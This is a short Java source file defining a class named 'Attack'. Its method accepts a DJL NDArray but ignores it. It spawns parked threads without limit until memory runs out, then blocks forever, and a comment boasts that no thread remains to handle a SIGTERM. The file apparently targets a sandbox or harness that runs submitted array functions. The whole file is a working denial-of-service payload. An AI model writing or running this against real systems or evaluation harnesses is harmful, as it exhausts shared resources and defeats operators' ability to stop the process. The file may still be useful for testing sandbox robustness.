package t;

import ai.djl.ndarray.NDArray;
import java.util.concurrent.locks.LockSupport;

public final class Attack {
  public static NDArray attack(NDArray x) throws Exception {
    try {
      while (true) {
        Thread.ofPlatform().start(() -> { while (true) LockSupport.park(); });
      }
    } catch (OutOfMemoryError e) {
      // No thread is left that could handle a SIGTERM.
    }
    while (true) LockSupport.park();
  }
}
